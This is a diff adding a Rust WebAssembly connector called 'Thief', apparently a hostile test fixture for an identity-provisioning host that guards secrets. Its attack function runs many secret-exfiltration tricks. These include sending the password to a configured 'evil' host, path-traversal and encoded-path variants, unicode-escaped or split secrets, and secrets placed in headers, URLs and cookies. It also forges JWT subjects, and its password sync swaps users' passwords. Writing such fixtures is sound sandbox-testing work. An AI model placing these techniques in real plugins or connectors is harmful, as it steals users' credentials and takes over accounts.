@@ -1,0 +1,372 @@
+//! A connector that is built to steal. It declares what an honest one would, and then tries to get at what its placeholders stand for, in
+//! the way that the setting `attack` names. What it has got hold of by the end is the message of the error that it refuses to open with.
+
+#![cfg(target_arch = "wasm32")]
+#![allow(missing_docs, clippy::missing_errors_doc)]
+
+mod bindings {
+    #![allow(unreachable_pub, unused_qualifications, clippy::all, clippy::pedantic, clippy::restriction)]
+
+    wit_bindgen::generate!({ path: "../../wit", world: "connector", generate_all });
+
+    use super::Thief;
+    export!(Thief);
+}
+
+use bindings::exports::identity::provisioning::provisioning_connector as wit;
+use bindings::identity::provisioning::http::{self, Failure, Method, Request, Response};
+use bindings::identity::provisioning::types::{Error, ErrorKind, Features, Retry};
+use bindings::identity::provisioning::{log, secrets};
+
+struct Thief;
+
+struct Session {
+    settings: Settings,
+}
+
+#[derive(Clone)]
+struct Settings(Vec<(String, String)>);
+
+impl Settings {
+    fn get(&self, name: &str) -> &str {
+        self.0.iter().find(|(have, _)| have == name).map_or("", |(_, value)| value)
+    }
+}
+
+fn json() -> (String, String) {
+    ("content-type".to_owned(), "application/json".to_owned())
+}
+
+fn bearer(token: &str) -> (String, String) {
+    ("authorization".to_owned(), format!("Bearer {token}"))
+}
+
+fn send(
+    method: Method,
+    url: String,
+    headers: Vec<(String, String)>,
+    body: Option<String>,
+) -> Result<Response, Failure> {
+    http::send(&Request { method, url, headers, body: body.map(String::into_bytes) })
+}
+
+/// Everything of an answer or a refusal, as loot.
+fn loot(answer: Result<Response, Failure>) -> String {
+    match answer {
+        Ok(Response { status, headers, body }) => format!("{status} {headers:?} {}", String::from_utf8_lossy(&body)),
+        Err(failure) => format!("{failure:?}"),
+    }
+}
+
+/// What the answer to an honest sign-in has under `token`.
+fn sign_in(settings: &Settings) -> (String, String) {
+    let body = format!(r#"{{"username":"u","password":"{}"}}"#, settings.get("password"));
+    let answer = loot(send(Method::Post, format!("{}/token", settings.get("app")), vec![json()], Some(body)));
+    let token = answer.split_once("\"token\":\"").and_then(|(_, rest)| rest.split_once('"')).map(|(token, _)| token);
+    (token.unwrap_or_default().to_owned(), answer)
+}
+
+fn attack(settings: &Settings) -> String {
+    let (app, evil) = (settings.get("app"), settings.get("evil"));
+    let (password, key) = (settings.get("password"), settings.get("key"));
+    let note = |value: &str| Some(format!(r#"{{"note":"{value}"}}"#));
+    let get = |url: String| loot(send(Method::Get, url, Vec::new(), None));
+    match settings.get("attack") {
+        // To an approved host, at a path and in a place that no use names, to be read back by another request.
+        "echo" => {
+            let stored = loot(send(Method::Post, format!("{app}/store"), vec![json()], note(password)));
+            stored + &get(format!("{app}/store"))
+        }
+        "base64" => {
+            let stored = loot(send(Method::Post, format!("{app}/store"), vec![json()], note(password)));
+            stored + &get(format!("{app}/store?as=base64"))
+        }
+        "range" => {
+            let (_, answer) = sign_in(settings);
+            let part = ("range".to_owned(), "bytes=0-9".to_owned());
+            answer + &loot(send(Method::Get, format!("{app}/last-body"), vec![part], None))
+        }
+        "deflate" => {
+            let (_, answer) = sign_in(settings);
+            answer + &get(format!("{app}/deflated"))
+        }
+        "answer-in-base64" => {
+            let body = format!(r#"{{"username":"as-base64","password":"{password}"}}"#);
+            loot(send(Method::Post, format!("{app}/token"), vec![json()], Some(body)))
+        }
+        "other-host" => {
+            let body = format!(r#"{{"username":"u","password":"{password}"}}"#);
+            loot(send(Method::Post, format!("{evil}/token"), vec![json()], Some(body)))
+        }
+        "other-path" => {
+            let body = || Some(format!(r#"{{"username":"u","password":"{password}"}}"#));
+            [
+                "/store",
+                "/token/",
+                "//token",
+                "/x/../token",
+                "/token/..%2Fstore",
+                "/%74oken",
+                "/token;x",
+                "/token/../store",
+            ]
+            .into_iter()
+            .map(|path| loot(send(Method::Post, format!("{app}{path}"), vec![json()], body())))
+            .collect()
+        }
+        "other-method" => {
+            let body = Some(format!(r#"{{"password":"{password}"}}"#));
+            loot(send(Method::Put, format!("{app}/token"), vec![json()], body))
+        }
+        "contact-field" => {
+            let (token, _) = sign_in(settings);
+            let url = format!("{app}/api/contacts");
+            let stolen = loot(send(Method::Post, url.clone(), vec![json(), bearer(&token)], note(password)));
+            let session = loot(send(Method::Post, url, vec![json(), bearer(&token)], note(&token)));
+            stolen + &session + &loot(send(Method::Get, format!("{app}/api/contacts"), vec![bearer(&token)], None))
+        }
+        "other-header" => {
+            let field = ("x-note".to_owned(), password.to_owned());
+            loot(send(Method::Post, format!("{app}/token"), vec![json(), field], note("x")))
+        }
+        "jwt-subject" => {
+            let claims =
+                |subject: &str| format!(r#"{{"iss":"client","sub":"{subject}","aud":"{app}","exp":{}}}"#, now() + 100);
+            let token = secrets::sign_jwt(key, None, &claims("root")).unwrap_or_else(|error| error);
+            let honest = secrets::sign_jwt(key, None, &claims("api")).unwrap_or_else(|error| error);
+            // One that is signed honestly, to somebody else.
+            let body = Some(format!("assertion={honest}"));
+            let form = ("content-type".to_owned(), "application/x-www-form-urlencoded".to_owned());
+            token + &loot(send(Method::Post, format!("{app}/store"), vec![form], body))
+        }
+        "jwt-message" => {
+            let no_claims = secrets::sign_jwt(key, None, "any message at all");
+            no_claims.unwrap_or_else(|error| error)
+        }
+        "basic" => secrets::basic("u", password).unwrap_or_else(|error| error),
+        "learned-host" => {
+            let body = format!(r#"{{"username":"at-evil","password":"{password}"}}"#);
+            let answer = loot(send(Method::Post, format!("{app}/token"), vec![json()], Some(body)));
+            let token = answer.split_once("\"token\":\"").and_then(|(_, rest)| rest.split_once('"'));
+            let token = token.map_or("", |(token, _)| token);
+            answer.clone() + &loot(send(Method::Get, format!("{evil}/api/x"), vec![bearer(token)], None))
+        }
+        "split" => {
+            let (token, _) = sign_in(settings);
+            let (one, two) = password.split_at(20);
+            let url = format!("{app}/api/contacts");
+            let first = loot(send(Method::Post, url.clone(), vec![json(), bearer(&token)], note(one)));
+            first + &loot(send(Method::Post, url, vec![json(), bearer(&token)], note(&format!("{two}{one}"))))
+        }
+        "escaped" => {
+            // The placeholder as JSON may spell it: what no search of the bytes finds.
+            let (token, _) = sign_in(settings);
+            let spelt: String = password.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
+            loot(send(Method::Post, format!("{app}/api/contacts"), vec![json(), bearer(&token)], note(&spelt)))
+        }
+        "in-the-address" => {
+            let query = get(format!("{app}/api/x?note={password}"));
+            query + &get(format!("{app}/api/{password}"))
+        }
+        "hidden-token" => {
+            let body = format!(r#"{{"username":"twice","password":"{password}"}}"#);
+            let answer = loot(send(Method::Post, format!("{app}/token"), vec![json()], Some(body)));
+            let (token, _) = sign_in(settings);
+            answer + &loot(send(Method::Get, format!("{app}/api/whoami"), vec![bearer(&token)], None))
+        }
+        "broken-answer" => {
+            let body = format!(r#"{{"username":"broken","password":"{password}"}}"#);
+            loot(send(Method::Post, format!("{app}/token"), vec![json()], Some(body)))
+        }
+        "cookie" => {
+            let (token, answer) = sign_in(settings);
+            let cookie = ("cookie".to_owned(), format!("sid={token}"));
+            answer + &loot(send(Method::Get, format!("{app}/api/x"), vec![cookie], None))
+        }
+        "twice-in-the-body" => {
+            let body = format!(r#"{{"password":"{password}","password":"x"}}"#);
+            loot(send(Method::Post, format!("{app}/token"), vec![json()], Some(body)))
+        }
+        "as-plain-text" => {
+            let text = ("content-type".to_owned(), "text/plain".to_owned());
+            loot(send(Method::Post, format!("{app}/token"), vec![text], Some(format!("password={password}"))))
+        }
+        "oracle" => {
+            // If masking told which texts are secrets, the server would have them told one by one.
+            let guess = settings.get("guess");
+            let (token, _) = sign_in(settings);
+            let url = format!("{app}/api/echo?of={guess}");
+            loot(send(Method::Get, url, vec![bearer(&token)], None))
+        }
+        other => format!("no such attack: {other}"),
+    }
+}
+
+fn now() -> u64 {
+    bindings::wasi::clocks::wall_clock::now().seconds
+}
+
+fn refused(message: String) -> Error {
+    Error { kind: ErrorKind::Transient, message, remedy: None, retry: Retry::Never, upstream: None }
+}
+
+fn setting(name: &str, kind: wit::SettingKind) -> wit::Setting {
+    wit::Setting {
+        name: name.to_owned(),
+        label: name.to_owned(),
+        help: "Whatever the test wants.".to_owned(),
+        kind,
+        required: false,
+        panel: wit::Panel::General,
+        multiline: false,
+    }
+}
+
+fn put(secret: &str, place: wit::Place) -> wit::Put {
+    wit::Put { secret: secret.to_owned(), form: wit::SecretForm::Plain, place }
+}
+
+fn secret_use(name: &str, hosts: &[&str], methods: &[Method], path: &str, puts: Vec<wit::Put>) -> wit::SecretUse {
+    wit::SecretUse {
+        name: name.to_owned(),
+        hosts: hosts.iter().map(|host| (*host).to_owned()).collect(),
+        methods: methods.to_vec(),
+        path: path.to_owned(),
+        puts,
+        takes: Vec::new(),
+        learns: None,
+    }
+}
+
+impl wit::Guest for Thief {
+    type Session = Session;
+
+    fn describe() -> wit::Descriptor {
+        let host = |name: &str, source| wit::HostEntry { name: name.to_owned(), source, when: None };
+        let session = || put("session", wit::Place::Header(("authorization".to_owned(), "Bearer ".to_owned())));
+        let password = put("password", wit::Place::Json("/password".to_owned()));
+        let new = put("new-password", wit::Place::Json("/new".to_owned()));
+        let mut sign_in = secret_use("sign-in", &["app"], &[Method::Post], "/token", vec![password]);
+        sign_in.takes = vec![wit::Take { secret: "session".to_owned(), place: wit::Place::Json("/token".to_owned()) }];
+        sign_in.learns = Some(("instance".to_owned(), wit::Place::Json("/instance".to_owned())));
+        let mut by_key = secret_use("by-key", &["app"], &[Method::Post], "/token", Vec::new());
+        by_key.puts = vec![wit::Put {
+            secret: "key".to_owned(),
+            form: wit::SecretForm::Jwt(wit::JwtBounds {
+                issuer: "client".to_owned(),
+                subject: "api".to_owned(),
+                audience: "{host}".to_owned(),
+                lifetime: 180,
+            }),
+            place: wit::Place::Form("assertion".to_owned()),
+        }];
+        let api = [Method::Get, Method::Post];
+        wit::Descriptor {
+            name: "Thief".to_owned(),
+            version: "1.0.0".to_owned(),
+            features: Features::SYNC_PASSWORD,
+            settings: vec![
+                setting("attack", wit::SettingKind::Text),
+                setting("app", wit::SettingKind::Host),
+                setting("evil", wit::SettingKind::Text),
+                setting("guess", wit::SettingKind::Text),
+                setting("password", wit::SettingKind::Secret),
+                setting("key", wit::SettingKind::Secret),
+            ],
+            grants: Vec::new(),
+            hosts: vec![
+                host("app", wit::HostSource::Setting("app".to_owned())),
+                host("instance", wit::HostSource::Learned),
+            ],
+            uses: vec![
+                sign_in,
+                by_key,
+                secret_use("call", &["app", "instance"], &api, "/api/**", vec![session()]),
+                secret_use("set", &["app"], &[Method::Post], "/users/{id}/password", vec![session(), new]),
+            ],
+        }
+    }
+
+    fn test_credentials(_: wit::Settings) -> Vec<wit::Probe> {
+        Vec::new()
+    }
+
+    fn open(settings: wit::Settings) -> Result<wit::Session, Error> {
+        let settings = Settings(settings);
+        if settings.get("attack") == "other-user" {
+            return Ok(wit::Session::new(Session { settings }));
+        }
+        let got = attack(&settings);
+        log::write(log::Level::Warn, &got, &[("password".to_owned(), settings.get("password").to_owned())]);
+        Err(refused(got))
+    }
+}
+
+impl wit::GuestSession for Session {
+    fn list_attributes(&self) -> Result<Vec<wit::AttributeDefinition>, Error> {
+        Ok(Vec::new())
+    }
+
+    fn list_entitlements(&self, _: String, _: Option<String>) -> Result<wit::EntitlementPage, Error> {
+        Err(refused("there are none".to_owned()))
+    }
+
+    fn import_users(&self, _: wit::ImportQuery) -> Result<wit::ImportPage, Error> {
+        Err(refused("there are none".to_owned()))
+    }
+
+    fn push_users(
+        &self,
+        _: Vec<wit::DesiredUser>,
+        _: wit::PushMode,
+    ) -> Result<Vec<Result<wit::Outcome, Error>>, Error> {
+        Err(refused("it pushes nobody".to_owned()))
+    }
+
+    fn deactivate_users(
+        &self,
+        _: Vec<String>,
+        _: wit::Deactivation,
+        _: wit::PushMode,
+    ) -> Result<Vec<Result<wit::Outcome, Error>>, Error> {
+        Err(refused("it takes nobody out of use".to_owned()))
+    }
+
+    fn reactivate_users(&self, _: Vec<String>, _: wit::PushMode) -> Result<Vec<Result<wit::Outcome, Error>>, Error> {
+        Err(refused("it puts nobody into use".to_owned()))
+    }
+
+    fn take_back_users(
+        &self,
+        _: Vec<wit::Abandoned>,
+        _: wit::Deactivation,
+        _: wit::PushMode,
+    ) -> Result<Vec<Result<wit::Outcome, Error>>, Error> {
+        Err(refused("it has made nobody".to_owned()))
+    }
+
+    /// Gives each user the password of the next, and then its own.
+    fn sync_passwords(&self, passwords: Vec<(String, String)>) -> Result<Vec<Result<(), Error>>, Error> {
+        let (token, _) = sign_in(&self.settings);
+        let app = self.settings.get("app");
+        let set = |id: &str, password: &str| {
+            let body = Some(format!(r#"{{"new":"{password}"}}"#));
+            send(Method::Post, format!("{app}/users/{id}/password"), vec![json(), bearer(&token)], body)
+        };
+        let next = passwords.iter().cycle().skip(1);
+        let stolen: Vec<String> =
+            passwords.iter().zip(next).map(|((id, _), (_, password))| loot(set(id, password))).collect();
+        Ok(passwords
+            .iter()
+            .zip(stolen)
+            .map(|((id, password), stolen)| match set(id, password) {
+                Ok(response) if response.status == 200 => Err(refused(format!("{stolen}; its own was set"))),
+                other => Err(refused(format!("{stolen}; {}", loot(other)))),
+            })
+            .collect())
+    }
+
+    fn usage(&self) -> wit::Usage {
+        wit::Usage { calls: 0, used: None, limit: None }
+    }
+}
